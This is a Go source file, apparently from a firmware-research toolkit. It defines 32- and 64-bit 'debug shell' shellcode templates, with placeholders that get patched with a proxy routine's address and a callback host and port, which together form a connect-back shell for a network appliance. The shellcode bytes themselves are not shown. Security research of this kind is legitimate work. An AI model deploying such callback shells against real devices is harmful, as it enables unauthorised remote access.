package shellcode

import (
	"bytes"

	"github.com/nccgroup/asafw/internal/target"
)

// LoopbackProxy names the routine the debug shell calls before forking.
// It was renamed across firmware revisions.
var LoopbackProxy = target.Alias{"start_loopback_proxy", "socks_proxy_server_start"}

var (
	hostSentinel = []byte{0xaa, 0xbb, 0xcc, 0xdd}
	portSentinel = []byte{0x88, 0x88}
)

var (
	DebugShell32 = MustTemplate("debug shell (32-bit)", 32, debugShell32Code,
		Placeholder{
			Name:    "loopback proxy",
			Pattern: bytes.Repeat([]byte{0x77}, 4),
			Kind:    Address,
			Symbols: LoopbackProxy,
			Mask:    0xffffffff,
		},
		Placeholder{Name: "callback host", Pattern: hostSentinel, Kind: Host},
		Placeholder{Name: "callback port", Pattern: portSentinel, Kind: Port},
	)

	DebugShell64 = MustTemplate("debug shell (64-bit)", 64, debugShell64Code,
		Placeholder{
			Name:    "loopback proxy",
			Pattern: bytes.Repeat([]byte{0x77}, 8),
			Kind:    Address,
			Symbols: LoopbackProxy,
			Mask:    ^uint64(0),
		},
		Placeholder{Name: "callback host", Pattern: hostSentinel, Kind: Host},
		Placeholder{Name: "callback port", Pattern: portSentinel, Kind: Port},
	)
)

// ForArch returns the debug shell template for a 32 or 64-bit target.
func ForArch(arch int) (*Template, error) {
	switch arch {
	case 32:
		return DebugShell32, nil
	case 64:
		return DebugShell64, nil
	default:
		return nil, &ArchError{Arch: arch}
	}
}
